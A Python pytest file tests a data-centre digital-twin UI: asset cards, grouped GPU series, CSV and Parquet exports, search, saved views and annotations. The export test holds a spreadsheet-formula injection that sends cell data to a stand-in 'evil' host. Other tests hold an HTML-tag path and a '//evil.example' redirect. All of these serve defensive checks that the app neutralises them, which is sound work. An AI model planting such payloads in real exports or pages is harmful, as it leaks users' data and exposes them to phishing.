"""Digging: one asset's card and page, any series in any grouping, files that hold what the store holds, search, notes."""

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta

import httpx
import numpy as np
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest
from faces_harness import NOW, Hands, live_of
from hall import hall_site
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from analytics.alerts import Alert, Phase, Severity
from ingest.stores import open_store
from ingest.stores.records import open_records
from twin.event import TOPIC, Event
from twin.frame import Frame, Origin
from twin.job import Jobs, JobState, no_jobs
from twin.message import Message
from twin.metrics import METRICS
from twin.ports import How
from ui.access.desk import Access
from ui.dig.card import card, gpus_of, residual_of
from ui.dig.explore import ACROSS, MAX_READ, Answer, Question, Unanswerable, _together, explore, nice_step_s
from ui.dig.export import written
from ui.dig.placed import Placed, ran_on, ranges_of
from ui.dig.search import Index, search
from ui.faces.server import build_server
from ui.view import Live

HOURS = 3


@dataclass
class Dig:
    live: Live
    app: object
    values: dict[str, np.ndarray]  # metric -> [minute, gpu]

    def ask(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(transport=httpx.ASGITransport(self.app), base_url="http://127.0.0.1")  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def dig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dig]:
    """A hall of 128 GPUs in the real store: three hours, a value a minute, of which some are missing."""
    folder = tmp_path_factory.mktemp("dig")
    site = hall_site(128)
    live = live_of(site, Hands())
    live.store, live.records = open_store(folder / "store", site), open_records(folder / "records.db")
    live.access = Access(live.records)
    live.records = live.access.records
    rng = np.random.default_rng(7)
    gpus, minutes = site.count("gpu"), HOURS * 60
    temp = 50 + rng.normal(0, 5, (minutes, gpus)).round(2)
    temp[rng.random(temp.shape) < 0.02] = np.nan
    power = rng.uniform(300, 700, (minutes, gpus)).round(1)
    start = NOW - timedelta(hours=HOURS)
    frames, racks = [], site.count("rack")
    for m in range(minutes):
        now = start + timedelta(minutes=m)
        frames.append(Frame("gpu", now, site.all_rows("gpu"), {"temp_c": temp[m], "power_w": power[m]}))
        measured = np.full(racks, 5e4) + m
        frames.append(Frame("rack", now, site.all_rows("rack"), {"power_w": measured}))
        judged = {"power_w": measured - 500, "residual_w": np.full(racks, 500.0), "residual_score_ratio": np.full(racks, 2.5)}
        frames.append(Frame("rack", now, site.all_rows("rack"), judged, Origin.MODELLED))
    live.store.append(frames)
    for frame in frames[-3:]:
        live.state.absorb(frame, NOW)
    feeds = site.links["feeds"].source
    for kind in {site.kind(site.ids[at]) for at in feeds.tolist()}:
        if "power_w" in METRICS[kind]:
            live.state.absorb(Frame(kind, NOW, site.all_rows(kind), {"power_w": np.full(site.count(kind), 1e5)}), NOW)
    yield Dig(live, build_server(live), {"temp_c": temp, "power_w": power})
    live.store.close()
    live.records.close()


def test_no_name_of_an_asset_is_a_formula_in_a_spreadsheet() -> None:
    names = ('=HYPERLINK("http://evil/?"&A2,"x")', "+1", "@x", "-g", "g0")
    answer = Answer(np.array([0.0]), 60, names, (1,) * 5, {"power_w": np.ones((1, 5))}, False)
    head = next(csv.reader(io.StringIO(written(answer, Question("gpu", ("power_w",), NOW, NOW), "csv").decode())))
    assert head == ["time", *(f"'{name}.power_w" for name in names[:4]), "g0.power_w"]


SPAN = {"start": (NOW - timedelta(hours=HOURS)).isoformat(), "end": NOW.isoformat()}


async def test_a_file_holds_what_the_store_holds(dig: Dig) -> None:
    ids = dig.live.site.ids_of("gpu")[:20]
    asked = {"kind": "gpu", "metric": "temp_c,power_w", "asset": ids, "step_s": 60} | SPAN
    rows = np.arange(20, dtype=np.int32)
    kept = dig.live.store.series("gpu", ["temp_c", "power_w"], NOW - timedelta(hours=HOURS), NOW, 60, How.MEAN, rows)
    async with dig.ask() as ask:
        answers = {
            form: await ask.get("/api/v1/explore/export", params=asked | {"format": form}) for form in ("csv", "parquet")
        }
    named = answers["csv"].headers["content-disposition"]
    assert named == 'attachment; filename="icctwin-gpu-temp_c-power_w-20260310T0330Z.csv"'
    tables = {
        "csv": pa_csv.read_csv(io.BytesIO(answers["csv"].content)),
        "parquet": pq.read_table(io.BytesIO(answers["parquet"].content)),
    }
    units = json.loads(tables["parquet"].schema.metadata[b"icctwin"])["units"]
    assert units == {"temp_c": "c", "power_w": "w"}
    for table in tables.values():
        assert table.num_rows == HOURS * 60
        times = [value.as_py().timestamp() for value in table["time"]]
        np.testing.assert_allclose(times, kept.time_s)
        for metric in ("temp_c", "power_w"):
            found = np.column_stack([table[f"{name}.{metric}"].to_numpy() for name in ids])
            np.testing.assert_array_equal(found, kept.values[metric])
            np.testing.assert_allclose(found, dig.values[metric][:, :20])
            assert np.isnan(found).any() == (metric == "temp_c")


@pytest.mark.parametrize("across", ACROSS)
async def test_what_is_put_together_is_what_numpy_says(dig: Dig, across: str) -> None:
    site = dig.live.site
    asked = {"kind": "gpu", "metric": "temp_c", "by": "rack", "across": across, "step_s": 60} | SPAN
    async with dig.ask() as ask:
        got = (await ask.get("/api/v1/explore", params=asked)).json()
    inside = site.within("gpu", "rack")
    how = {
        "mean": np.nanmean,
        "min": np.nanmin,
        "max": np.nanmax,
        "sum": np.nansum,
        "p95": lambda v, axis: np.nanpercentile(v, 95, axis),
    }
    for i, name in enumerate(got["names"]):
        columns = dig.values["temp_c"][:, inside == site.row(name)]
        assert got["counts"][i] == columns.shape[1]
        np.testing.assert_allclose(got["metrics"]["temp_c"][i], how[across](columns, axis=1), rtol=1e-9)


@settings(max_examples=60, deadline=None)
@given(hnp.arrays(float, (4, 9), elements=st.one_of(st.floats(-1e6, 1e6), st.just(np.nan))))
def test_groups_with_holes_agree_with_numpy(values: np.ndarray) -> None:
    groups = [np.array([0]), np.array([1, 2, 3]), np.array([4, 5, 6, 7, 8])]
    for across, how in (
        ("p95", lambda v: np.percentile(v, 95)),
        ("mean", np.mean),
        ("max", np.max),
        ("min", np.min),
        ("sum", np.sum),
    ):
        made = _together(values, groups, across)
        for t in range(4):
            for g, at in enumerate(groups):
                known = values[t, at][np.isfinite(values[t, at])]
                if len(known):
                    assert made[t, g] == pytest.approx(how(known), rel=1e-9, abs=1e-6)
                else:
                    assert np.isnan(made[t, g])


@pytest.mark.parametrize(
    ("asked", "says"),
    [
        ({"kind": "gpu", "metric": "temp_c"}, "128 lines, at most 60 are drawn"),
        ({"kind": "gpu", "metric": "temp_f"}, "no metric 'temp_f'"),
        ({"kind": "gpux", "metric": "temp_c"}, "no kind 'gpux'"),
        ({"kind": "gpu", "metric": "temp_c", "asset": "nothing"}, "no gpu 'nothing'"),
        ({"kind": "gpu", "metric": "temp_c", "by": "pdu"}, "by one of"),
        ({"kind": "gpu", "metric": "temp_c", "by": "rack", "start": "2020-01-01T00:00:00Z"}, "at most 400 days"),
        ({"kind": "gpu", "metric": "temp_c", "by": "rack", "start": NOW.isoformat(), "end": NOW.isoformat()}, "before the end"),
        ({"kind": "gpu", "metric": "temp_c,power_w,util_frac,sm_clock_hz,mem_temp_c,mem_used_bytes,xid_code"}, "7 metrics"),
        ({"kind": "gpu", "metric": "temp_c", "within": "nowhere"}, "no asset 'nowhere'"),
    ],
)
async def test_a_bound_is_a_sentence(dig: Dig, asked: dict[str, str], says: str) -> None:
    async with dig.ask() as ask:
        answer = await ask.get("/api/v1/explore", params=asked)
    assert answer.status_code == 422
    assert says in answer.json()["detail"]


def test_what_is_too_much_comes_in_longer_steps(dig: Dig) -> None:
    gpus = dig.live.site.count("gpu")
    asked = Question("gpu", ("temp_c",), NOW - timedelta(hours=HOURS), NOW, by="hall", step_s=60.0)
    found = explore(dig.live.site, dig.live.store, asked, most_values=gpus * 40)
    assert (found.coarser, found.step_s) == (True, 300.0)
    assert not explore(dig.live.site, dig.live.store, asked).coarser
    with pytest.raises(Unanswerable, match="too much to read"):
        explore(dig.live.site, dig.live.store, asked, most_values=gpus)
    assert MAX_READ // 100_000 >= 2, "a hundred thousand GPUs can still be asked for"
    assert [nice_step_s(s) for s in (0.3, 11, 61, 90_000)] == [1.0, 15.0, 120.0, 172_800.0]


async def test_an_assets_card_says_what_holds_feeds_and_ails_it(dig: Dig) -> None:
    live, site = dig.live, dig.live.site
    rack, gpu = site.ids_of("rack")[1], site.ids_of("gpu")[int(np.flatnonzero(site.within("gpu", "rack") == 1)[0])]
    since = NOW - timedelta(minutes=3)
    live.alerts = (
        Alert("hot", "gpu", gpu, "temp_c", Severity.CRITICAL, Phase.FIRING, 1, 1, Message("hot"), "", since, since, None),
    )
    for i, asset in enumerate((gpu, site.ids_of("gpu")[0], rack)):
        event = Event(NOW - timedelta(minutes=i), asset, f"xid/{79 + i}", "fell off the bus")
        live.records.append(TOPIC, event.time, event.record())
    async with dig.ask() as ask:
        got = (await ask.get(f"/api/v1/assets/{rack}")).json()
        of_gpu = (await ask.get(f"/api/v1/assets/{gpu}")).json()
    told = got["card"]
    assert [one["kind"] for one in told["holders"]][-1] == "site"
    assert told["holders"][-1]["alert"] == "critical", "what ails a part ails the whole"
    assert told["children_total"] == len(told["children"])
    assert told["inside"]["gpu"] == int((site.within("gpu", "rack") == 1).sum())
    by_name = {line["name"]: line for line in told["readings"]}
    assert by_name["power_w"]["score"] == 2.5
    assert set(by_name["power_w"]["sides"]) == {"measured", "modelled"}
    assert "residual_w" not in by_name
    upstream = {one["asset"]: one for one in told["upstream"]}
    feeding = [one for one in upstream.values() if one["relation"] == "feeds"]
    assert feeding
    assert {one["level"] for one in feeding} >= {1, 2}, "what feeds it, and what feeds that"
    direct = site.links["feeds"].source[site.links["feeds"].target == site.position[rack]]
    assert {site.ids[at] for at in direct.tolist()} <= set(upstream)
    assert any(one["side"] and one["side"]["value"] == 1e5 and one["side"]["fresh"] for one in feeding), "with its state"
    assert [one["asset"] for one in got["alerts"]] == [gpu]
    assert {one["asset"] for one in got["events"]} == {gpu, rack}
    assert {one["asset"] for one in of_gpu["events"]} == {gpu}
    assert any(one["via"] == rack for one in of_gpu["card"]["upstream"]), "a GPU is fed by what feeds its rack"


async def test_measured_stands_against_modelled_in_the_band_of_its_spread(dig: Dig) -> None:
    rack = dig.live.site.ids_of("rack")[0]
    async with dig.ask() as ask:
        got = (await ask.get("/api/v1/explore/asset", params={"asset": rack, "metric": "power_w", "step_s": 60} | SPAN)).json()
        none = (await ask.get("/api/v1/explore/asset", params={"asset": rack, "metric": "flow_kgps"} | SPAN)).json()
    measured = np.array(got["measured"])
    np.testing.assert_allclose(measured, 5e4 + np.arange(HOURS * 60))
    np.testing.assert_allclose(got["modelled"], measured - 500)
    np.testing.assert_allclose(got["band_high"], measured - 500 + 4 * 200)  # a score of 2.5 for 500 W: a spread of 200 W
    np.testing.assert_allclose(got["band_low"], measured - 500 - 4 * 200)
    assert (none["measured"], none["modelled"], none["band_low"]) == ([], [], [])
    assert residual_of("loop", "power_w") is None
    assert residual_of("cdu", "power_w") == ("power_residual_w", "power_score_ratio")
    assert all(
        residual_of(kind, name) is None or residual_of(kind, name)[1] in METRICS[kind]
        for kind in METRICS
        for name in METRICS[kind]
    )  # type: ignore[index]


async def test_an_asset_that_is_not_there_and_one_without_a_value(dig: Dig) -> None:
    chiller = next(dig.live.site.ids_of(kind)[0] for kind in ("chiller", "tower", "drycooler") if dig.live.site.count(kind))
    async with dig.ask() as ask:
        for path in (
            "/api/v1/assets/nothing",
            "/api/v1/explore/asset?asset=nothing&metric=power_w",
            "/api/v1/annotations?asset=nothing",
        ):
            answer = await ask.get(path)
            assert (answer.status_code, "There is no asset 'nothing'" in answer.text) == (404, True)
        page = await ask.get("/asset/<b>nothing")
        assert page.status_code == 404
        assert "<b>" not in page.text
        got = (await ask.get(f"/api/v1/assets/{chiller}")).json()
        assert got["card"]["readings"] == []
        assert (await ask.get(f"/asset/{chiller}?lang=zh")).status_code == 200


def running(site_gpus: list[list[int]], ids: list[str]) -> Jobs:
    n = len(ids)
    nan, zero = np.full(n, np.nan), np.zeros(n, np.uint8)
    rows = np.array([row for rows in site_gpus for row in rows], dtype=np.int32)
    job_of = np.repeat(np.arange(n), [len(rows) for rows in site_gpus]).astype(np.int32)
    start = np.full(n, NOW.timestamp() - 600)
    state = np.full(n, JobState.RUNNING, np.uint8)
    counts = np.array([len(rows) for rows in site_gpus], dtype=np.int32)
    return Jobs(
        ids, [f"n{i}" for i in ids], ["li"] * n, ["main"] * n, state, counts, start, start, nan, nan, nan, zero, rows, job_of
    )


async def test_jobs_that_ran_on_an_asset_are_remembered(dig: Dig) -> None:
    live, site = dig.live, dig.live.site
    placed = Placed(live)
    live.jobs = running([[0, 1, 2, 9], [5, 6], []], ["a", "b", "c"])
    placed.step(NOW)
    live.jobs = running([[5, 6]], ["b"])
    placed.step(NOW + timedelta(seconds=15))
    node = site.ids_of("node")[0]
    async with dig.ask() as ask:
        got = (await ask.get(f"/api/v1/assets/{node}")).json()["jobs"]
    assert [(one["id"], one["state"], one["gpus"], one["gpus_here"]) for one in got] == [
        ("b", "running", 2, 2),
        ("a", "ended", 4, 3),
    ]
    assert got[1]["end_s"] == (NOW + timedelta(seconds=15)).timestamp()
    assert ran_on(site, live.records, np.array([3], dtype=np.int32)) == []
    live.jobs = no_jobs()
    placed.step(NOW + timedelta(seconds=30))
    assert [one["job"] for one in ran_on(site, live.records, gpus_of(site, site.position[node]))] == ["b", "a"]
    assert ranges_of(np.array([3, 4, 5, 9, 11, 12], dtype=np.int32)) == [[3, 5], [9, 9], [11, 12]]


async def test_search_finds_by_a_few_letters(dig: Dig) -> None:
    rack = dig.live.site.ids_of("rack")[0]
    async with dig.ask() as ask:
        found = (await ask.get("/api/v1/search", params={"q": rack.upper()})).json()
        assert (found[0]["name"], found[0]["sort"], found[0]["path"]) == (rack, "asset", f"/asset/{rack}")
        assert len(found) == 20, "what begins with it comes after"
        assert any(one["name"] == "gpu.temp_c" for one in (await ask.get("/api/v1/search?q=temp_c&limit=50")).json())
        assert (await ask.get("/api/v1/search?q=探索&lang=zh")).json()[0]["path"] == "/explore"
        assert (await ask.get("/api/v1/search?q=zzzzz")).json() == []
        assert (await ask.get("/api/v1/search?q=")).status_code == 422


async def test_views_are_ones_own_and_notes_lie_on_what_they_are_about(dig: Dig) -> None:
    site = dig.live.site
    rack, other = site.ids_of("rack")[:2]
    gpu = site.ids_of("gpu")[int(np.flatnonzero(site.within("gpu", "rack") == 0)[0])]
    span = {"start": "2026-03-10T05:00:00Z", "end": "2026-03-10T06:00:00Z"}
    async with dig.ask() as ask:
        made = (await ask.post("/api/v1/views", json={"name": "hot", "page": "/explore", "query": "kind=gpu"})).json()
        changed = await ask.put(
            f"/api/v1/views/{made['id']}", json={"name": "hotter", "page": "/explore", "query": "kind=rack"}
        )
        assert changed.json()["query"] == "kind=rack"
        assert [one["name"] for one in (await ask.get("/api/v1/views")).json()] == ["hotter"]
        assert (await ask.post("/api/v1/views", json={"name": "x", "page": "//evil.example"})).status_code == 422
        assert (await ask.delete(f"/api/v1/views/{made['id']}")).status_code == 204
        assert (await ask.delete(f"/api/v1/views/{made['id']}")).status_code == 404
        for asset, text in ((rack, "manifold changed"), ("", "chilled water off"), (other, "elsewhere")):
            answer = await ask.post("/api/v1/annotations", json=span | {"asset": asset, "sort": "maintenance", "text": text})
            assert answer.status_code == 201
        seen = (await ask.get("/api/v1/annotations", params={"asset": gpu})).json()
        assert {one["text"] for one in seen} == {"manifold changed", "chilled water off"}, (
            "of the rack that holds it, and of the site"
        )
        late = (await ask.get("/api/v1/annotations", params={"asset": gpu, "start": "2026-03-10T06:00:01Z"})).json()
        assert late == []
        shown = (await ask.get(f"/api/v1/assets/{rack}")).json()["annotations"]
        assert len(shown) == 2
        backwards = {"start": span["end"], "end": span["start"], "text": "x"}
        assert (await ask.post("/api/v1/annotations", json=backwards)).status_code == 422


def test_a_card_is_bounded_and_the_index_of_search_is_made_once() -> None:
    site = hall_site(1024)
    live = live_of(site, Hands())
    made = card(site, live.state, (), no_jobs(), site.ids_of("hall")[0], NOW)
    assert len(made.children) <= 200
    assert made.inside["gpu"] == 1024
    index = Index()
    assert index.of(site) is index.of(site)
    assert len(search(index, site, no_jobs(), [], "h1", 20)) == 20
